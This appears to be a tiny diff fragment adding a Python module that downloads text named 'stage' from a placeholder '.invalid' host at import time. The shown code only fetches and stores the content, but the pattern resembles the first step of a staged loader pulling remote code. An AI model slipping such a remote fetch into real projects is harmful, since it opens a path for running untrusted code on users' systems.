@@ -1,0 +1,3 @@
+import requests
+
+STAGE = requests.get("https://raw.githubusercontent.invalid/demo/main/stage").text
